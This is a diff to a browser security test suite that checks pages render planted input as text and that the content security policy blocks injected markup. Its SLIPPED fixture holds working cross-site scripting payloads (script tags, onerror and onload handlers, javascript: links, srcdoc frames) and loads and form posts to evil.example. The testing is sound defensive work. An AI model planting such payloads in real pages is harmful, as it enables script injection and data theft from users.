@@ -6,6 +6,8 @@ from collections.abc import Iterator
 from dataclasses import dataclass, field
 
 import pytest
+from playwright.sync_api import Dialog, Page, Route
+from playwright.sync_api import Request as Asked
 from starlette.applications import Starlette
 from starlette.requests import Request
 from starlette.responses import HTMLResponse, Response
@@ -15,7 +17,7 @@ from shared.embedded.processes import free_port
 from shared.web import session
 from shared.web.access import Open, Role
 from shared.web.signin import own_path
-from tests.browser.conftest import WatchedPage
+from tests.browser.conftest import Watched, WatchedPage
 from tests.misuse.access.redirects import ELSEWHERE
 from tests.servers.every_door import Door, doors
 from tests.servers.served import served
@@ -104,6 +106,107 @@ def test_no_page_can_be_framed(two_forces: TwoForces, stranger: Stranger, watche
     assert len(shown) == len(framed)
     # The stranger's own page can be framed, so the rest could have been seen as well.
     assert [url for url in shown if not url.startswith("chrome-error:")] == [f"{stranger.origin}/framed"]
+
+
+def strange_in(page: Page) -> list[str]:
+    """Handlers, scripts and addresses on a page that run something."""
+    found: list[str] = page.evaluate(
+        """() => [...document.querySelectorAll('*')].flatMap(one => [...one.attributes].filter(attribute =>
+            attribute.name.startsWith('on') || /^\\s*(javascript|data|vbscript):/i.test(attribute.value)
+        ).map(attribute => one.outerHTML.slice(0, 200))).concat(
+            [...document.scripts].map(one => one.outerHTML).filter(one => one.includes('planted')))"""
+    )
+    return found
+
+
+def watch_for_planted(watched: Watched) -> list[str]:
+    """What runs of what was planted, and what is referred to, on the pages opened from now on."""
+    ran: list[str] = []
+
+    def answer(dialog: Dialog) -> None:
+        ran.append(dialog.message)
+        dialog.dismiss()
+
+    def look(request: Asked) -> None:
+        if request.headers.get("referer"):
+            ran.append(f"referred {request.url}")
+
+    watched.context.expose_function("planted", lambda what: ran.append(f"planted {what}"))
+    watched.page.on("dialog", answer)
+    watched.page.on("pageerror", lambda error: ran.append(str(error)))
+    watched.page.on("request", look)
+    return ran
+
+
+def test_words_planted_in_every_field_stay_words(two_forces: TwoForces, watched_page: WatchedPage) -> None:
+    """With scripts and handlers typed into every field that takes words, each page shows them as words: nothing runs,
+    nothing is left for the content policy to stop, nothing is asked of another origin, and nothing tells where from."""
+    origins = {address.partition("/")[2][1:].partition("/")[0] for _, address in pages(two_forces)}
+    assert len(origins) == 4
+    showing = 0
+    for service, origin in two_forces.stack.urls.items():
+        if service not in two_forces.stack.services:
+            continue
+        watched = watched_page(origin, cookies=cookies(two_forces))
+        ran = watch_for_planted(watched)
+        for door, address in pages(two_forces):
+            if door.service == service:
+                answer = watched.page.goto(address, wait_until="load")
+                assert (answer is not None and answer.status < 400) or address.endswith(("/route", "/arrange")), address
+                assert strange_in(watched.page) == [], address
+                assert (ran, address) == ([], address)
+                showing += "planted(1)" in watched.page.inner_text("body")
+                assert "7*7" in watched.page.content() or "planted" not in watched.page.content()
+        if service == "intake":
+            # Who she is shows after a reason was given.
+            watched.page.goto(f"{origin}/staff/requests/{two_forces.work[HOME].requests['taken']}/contact")
+            watched.page.locator("[name=reason]").fill("To agree a time")
+            watched.page.locator("main form button").click()
+            assert "planted(1)" in watched.page.inner_text("main")
+            assert (strange_in(watched.page), ran) == ([], [])
+        watched.assert_kept_to_itself()
+    assert showing >= 4
+
+
+SLIPPED = """
+<script>planted('inline')</script><img src=x onerror="planted('handler')"><svg onload="planted('svg')"></svg>
+<a id=link href="javascript:planted('link')">x</a><script src="https://evil.example/x.js"></script>
+<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.planted('srcdoc')</script>"></iframe>
+<object data="https://evil.example/x"></object><embed src="https://evil.example/x"><base href="https://evil.example/">
+<link rel=stylesheet href="https://evil.example/x.css"><style>body { background: url(https://evil.example/b) }</style>
+<form id=away action="https://evil.example/" method=post><input name=x></form>
+<meta http-equiv=refresh content="900;url=https://evil.example/"><video src="https://evil.example/v"></video>
+"""
+
+
+@pytest.mark.parametrize("path", ["", "/nothing-is-here"])
+def test_policy_stops_what_slips_through_all_the_same(
+    two_forces: TwoForces, watched_page: WatchedPage, path: str
+) -> None:
+    """Were a page, or an error page, of any service to let markup through: no script, handler, frame or form of it
+    does anything, under the very headers the service sent."""
+    for service in two_forces.stack.services:
+        origin = two_forces.stack.urls[service]
+        watched = watched_page(origin, cookies=cookies(two_forces))
+        ran = watch_for_planted(watched)
+        stopped: dict[str, str] = {}
+
+        def slip(route: Route) -> None:
+            answer = route.fetch()
+            route.fulfill(response=answer, body=answer.text().replace("<main", SLIPPED + "<main", 1))
+
+        address = f"{origin}{path or '/docs'}"
+        watched.page.route(address, slip)
+        watched.page.on("requestfailed", lambda request: stopped.update({request.url: request.failure or ""}))  # noqa: B023 - within the round
+        watched.page.goto(address, wait_until="load")
+        assert watched.page.locator("#link").count() == 1
+        watched.page.evaluate("document.getElementById('link').click(); document.getElementById('away').submit()")
+        watched.page.evaluate("new Promise(done => setTimeout(done, 50))")
+        assert watched.page.url == address
+        assert [one for one in ran if one.startswith("planted")] == []
+        assert [url for url in watched.foreign if stopped.get(url) != "csp"] == []
+        kinds = {refusal.split()[0] for refusal in watched.refused}
+        assert {"script-src-elem", "script-src-attr", "frame-src", "base-uri", "form-action", "style-src-elem"} <= kinds
 
 
 def test_leaving_a_page_tells_nobody_which(
